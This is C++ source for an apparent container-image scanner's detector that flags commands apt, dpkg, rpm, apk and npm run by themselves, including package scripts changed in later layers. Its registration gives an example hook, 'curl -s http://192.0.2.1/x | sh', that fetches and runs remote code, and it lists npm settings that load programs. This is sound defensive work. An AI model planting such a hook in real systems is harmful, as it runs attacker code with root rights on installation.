// Commands that package managers run by themselves (P07): hooks of apt, scripts of Debian packages, and settings of
// npm that name a program.
//
// Hooks of apt are ordinary in images: they throw away downloaded packages. Scripts of packages fetch and decode
// nothing; dpkg's database says nothing about their content, but a layer that changes one while the package keeps
// its version was not made by dpkg. Scripts of rpm lie in its database, those of apk in an archive beside it.
#include <algorithm>
#include <array>
#include <map>

#include "detect/detector.hpp"
#include "detect/shell/shell_facts.hpp"
#include "detect/start/start_entries.hpp"
#include "formats/byte_stream.hpp"
#include "formats/tar.hpp"

namespace hullcheck::detect {
namespace {

constexpr std::size_t k_most_bytes = std::size_t{1} << 20;
constexpr std::size_t k_most_shown = 200;
constexpr std::size_t k_most_scripts = 5000;
constexpr std::size_t k_most_script = std::size_t{256} << 10;
constexpr std::size_t k_most_archive = std::size_t{32} << 20;

constexpr std::array<RuleRow, 1> k_rows{{
    {"P07", EvidenceClass::strong, model::Severity::high, 80, "Hook of a package manager", "T1546.016",
     "Find out who put the command there; it runs with root's rights at the next installation."},
}};

constexpr std::array<std::string_view, 5> k_script_suffixes = {".preinst", ".postinst", ".prerm", ".postrm",
                                                               ".config"};

bool is_package_script(std::string_view path) {
  if (layers::base_name(layers::parent_path(path)) != "info" || path.find("lib/dpkg/info/") == std::string_view::npos)
    return false;
  return std::any_of(k_script_suffixes.begin(), k_script_suffixes.end(),
                     [&](std::string_view suffix) { return path.ends_with(suffix); });
}

// "libc6:amd64.postinst" is of package libc6.
std::string package_of_script(std::string_view path) {
  std::string_view name = layers::base_name(path);
  name = name.substr(0, name.rfind('.'));
  return std::string(name.substr(0, name.find(':')));
}

bool is_apk_scripts(std::string_view path) { return path.ends_with("lib/apk/db/scripts.tar"); }

// The rules that other detectors have against a script as it would run, or "".
std::string rules_against(const std::string& path, std::string_view text) {
  const ShellFacts facts = facts_of_text(text);
  const ShellUnit unit{path, {}, 1, Reach::present, false, facts, nullptr};
  EvidenceSink sink;
  for (const auto& entry : DetectorRegistry::all()) entry.instance->shell(unit, sink);
  std::string rules;
  for (const Evidence& evidence : sink.take()) {
    const char letter = family(evidence.rule);
    const bool counts = (letter == 'D' || letter == 'B' || letter == 'H' || letter == 'M') &&
                        evidence.cls <= EvidenceClass::supporting && evidence.rule != k_hint_rule;
    if (counts && rules.find(evidence.rule) == std::string::npos)
      rules += (rules.empty() ? "" : ", ") + evidence.rule;
  }
  return rules;
}

// Members are called "NAME-VERSION.DIGEST.post-install".
void read_apk_scripts(const layers::FileView& file, EvidenceSink& out) {
  const auto stream = formats::memory_stream(file.bytes);
  formats::TarReader tar(*stream, {});
  for (std::size_t count = 0; count < k_most_scripts; ++count) {
    const auto member = tar.next();
    if (!member || *member == nullptr) return;
    const std::string name = (*member)->name.substr(0, k_most_shown);
    std::string text;
    for (auto piece = tar.read(); piece && !piece->empty() && text.size() < k_most_script; piece = tar.read())
      text.append(as_text(*piece));
    if (const std::string rules = rules_against(name, text); !rules.empty())
      out.add(evidence_of(k_rows[0], "script of a package: " + name + " (see " + rules + ")"));
  }
}

bool is_npm_settings(std::string_view path) {
  const std::string_view name = layers::base_name(path);
  return name == ".npmrc" || (name == "npmrc" && path.ends_with("etc/npmrc"));
}

// Settings by which npm runs something of somebody's choice.
void read_npm(std::string_view text, EvidenceSink& out) {
  static constexpr std::array<std::string_view, 4> k_programs = {"script-shell", "node-options", "onload-script",
                                                                 "git"};
  for (std::uint32_t number = 1; !text.empty(); ++number) {
    const std::size_t end = std::min(text.find('\n'), text.size());
    const std::string_view line = text.substr(0, end);
    text.remove_prefix(std::min(end + 1, text.size()));
    const std::size_t equals = line.find('=');
    if (equals == std::string_view::npos) continue;
    std::string_view key = line.substr(0, equals);
    while (key.ends_with(' ')) key.remove_suffix(1);
    while (key.starts_with(' ')) key.remove_prefix(1);
    if (std::find(k_programs.begin(), k_programs.end(), key) == k_programs.end()) continue;
    std::string_view value = line.substr(equals + 1);
    while (value.starts_with(' ') || value.starts_with('"')) value.remove_prefix(1);
    const bool loads = key != "node-options" || value.find("-r") != std::string_view::npos ||
                       value.find("--import") != std::string_view::npos ||
                       value.find("--loader") != std::string_view::npos;
    if (!loads || value.empty()) continue;
    const bool odd = is_odd_command(value) || is_temporary(value);
    Evidence evidence = with_class(evidence_of(k_rows[0], std::string(line.substr(0, k_most_shown))),
                                   odd ? EvidenceClass::strong : EvidenceClass::supporting);
    evidence.line = number;
    out.add(std::move(evidence));
  }
}

// dpkg.cfg(5), and the actions of yum's and dnf's plugin.
bool is_installer_settings(std::string_view path) {
  const std::string_view folder = layers::base_name(layers::parent_path(path));
  return path == "etc/dpkg/dpkg.cfg" || folder == "dpkg.cfg.d" ||
         (folder == "post-transaction-actions.d" && path.ends_with(".action"));
}

// "post-invoke=COMMAND" of dpkg, "PACKAGE:STATE:COMMAND" of the plugin. dpkg's own are rare, and harmless.
void read_installer(std::string_view text, EvidenceSink& out) {
  for (std::uint32_t number = 1; !text.empty(); ++number) {
    const std::size_t end = std::min(text.find('\n'), text.size());
    const std::string_view line = text.substr(0, end);
    text.remove_prefix(std::min(end + 1, text.size()));
    std::string_view command;
    for (const std::string_view key : {"post-invoke", "pre-invoke", "status-logger"})
      if (line.starts_with(key)) command = line.substr(key.size());
    if (!line.starts_with('#') && command.empty() && std::count(line.begin(), line.end(), ':') >= 2)
      command = line.substr(line.find(':', line.find(':') + 1) + 1);
    if (!is_odd_command(command)) continue;
    Evidence evidence = evidence_of(k_rows[0], std::string(line.substr(0, k_most_shown)));
    evidence.line = number;
    out.add(std::move(evidence));
  }
}

// Images of distributions throw downloaded packages away after each installation.
bool only_cleans_up(std::string_view command) {
  static constexpr std::array<std::string_view, 7> k_words = {"rm", "-f", "-rf", "true", "||", "&&", ":"};
  while (!command.empty()) {
    const std::size_t end = std::min(command.find(' '), command.size());
    const std::string_view word = command.substr(0, end);
    command.remove_prefix(std::min(end + 1, command.size()));
    const bool cache = (word.starts_with("/var/cache/apt/") || word.starts_with("/var/lib/apt/lists")) &&
                       word.find_first_of(";|&`$()<>") == std::string_view::npos &&
                       word.find("..") == std::string_view::npos;
    if (!word.empty() && !cache && std::find(k_words.begin(), k_words.end(), word) == k_words.end()) return false;
  }
  return true;
}

class PackageHooks final : public Detector {
 public:
  bool wants(const layers::FileInfo& file) const override {
    if (is_apk_scripts(file.path())) return file.size() > 0 && file.size() <= k_most_archive;
    if (file.size() == 0 || file.size() > k_most_bytes) return false;
    return start_file_kind(file.path()) == StartFileKind::apt_hook || is_npm_settings(file.path()) ||
           is_installer_settings(file.path());
  }

  void collect(const layers::FileView& file, EvidenceSink& out) const override {
    if (is_npm_settings(file.path())) return read_npm(file.text(), out);
    if (is_installer_settings(file.path())) return read_installer(file.text(), out);
    if (is_apk_scripts(file.path())) return read_apk_scripts(file, out);
    for (const StartCommand& command : parse_start_file(StartFileKind::apt_hook, file.text()).commands) {
      if (only_cleans_up(command.command)) continue;
      Evidence evidence = evidence_of(k_rows[0], "apt runs: " + command.command.substr(0, k_most_shown));
      evidence.cls = is_odd_command(command.command) ? EvidenceClass::supporting : EvidenceClass::context;
      evidence.line = command.line;
      evidence.values = {{"when", command.when}, {"command", command.command}};
      out.add(std::move(evidence));
    }
  }

  void image(const ImageContext& context, ImageEvidence& out) const override {
    raise_entries(context, k_rows[0], out);
    raise_scripts(context, k_rows[0], EvidenceClass::strong, "script of a package", is_package_script, out);
    changed_scripts(context, out);
    rpm_scripts(context, out);
  }

 private:
  // The inventory keeps the scripts that do more than packages do.
  static void rpm_scripts(const ImageContext& context, ImageEvidence& out) {
    const auto& packages = context.inventory.packages;
    const bool any = std::any_of(packages.begin(), packages.end(), [](const auto& one) { return one.type == "rpm"; });
    if (!any) return;
    const auto look_at = [&](const inventory::FoundFacts& found) {
      if (found.visibility != model::Visibility::final) return;
      for (const auto& [key, value] : found.facts.values) {
        const std::size_t newline = value.find('\n');
        if (key != "script" || newline == std::string::npos) continue;
        const std::string rules = rules_against(found.path, std::string_view(value).substr(newline + 1));
        if (!rules.empty())
          add_at(context, found.file,
                 evidence_of(k_rows[0], "script of package " + value.substr(0, newline) + " (see " + rules + ")"),
                 out);
      }
    };
    inventory::each_found(context.image, "rpm", inventory::FileLists::skip, look_at);
  }

  static void changed_scripts(const ImageContext& context, ImageEvidence& out) {
    std::map<std::string, const model::Package*> packages;
    for (const model::Package& package : context.inventory.packages)
      if (package.type == "deb") packages.emplace(package.name, &package);
    std::map<std::string, layers::FileRef> first;  // the last copy in the package's layer or below
    for (std::uint32_t layer = 0; layer < context.image.layer_count(); ++layer) {
      const layers::LayerFacts* facts = context.image.layer(layer);
      if (facts == nullptr) continue;
      for (std::uint32_t i = 0; i < facts->entries.size(); ++i) {
        const layers::Entry& entry = facts->entries[i];
        if (entry.type != layers::EntryType::file || !is_package_script(entry.path)) continue;
        const auto package = packages.find(package_of_script(entry.path));
        if (package == packages.end() || package->second->layer == model::k_no_layer) continue;
        const layers::FileRef file{layer, i};
        if (layer <= package->second->layer) {
          first[std::string(entry.path)] = file;
          continue;
        }
        if (context.image.visibility(file) != model::Visibility::final) continue;
        const auto before = first.find(std::string(entry.path));
        if (before != first.end() && same(context, file, before->second)) continue;
        const std::string text = (before == first.end() ? "layer " + std::to_string(layer + 1) + " added"
                                                        : "layer " + std::to_string(layer + 1) + " changed") +
                                 " the script while package " + package_name(*package->second) + " stayed as it was";
        add_at(context, file, evidence_of(k_rows[0], text), out);
      }
    }
  }

  static bool same(const ImageContext& context, layers::FileRef a, layers::FileRef b) {
    const layers::FileDigests* one = context.image.digests(a);
    const layers::FileDigests* other = context.image.digests(b);
    return one == nullptr || other == nullptr || one->sha256 == other->sha256;
  }
};

const util::Registered<PackageHooks> registered{{
    .id = "package-hooks",
    .version = 3,
    .summary = "commands that apt, dpkg and npm run by themselves",
    .example = "apt runs: curl -s http://192.0.2.1/x | sh",
    .rules = k_rows,
}};

}  // namespace
}  // namespace hullcheck::detect
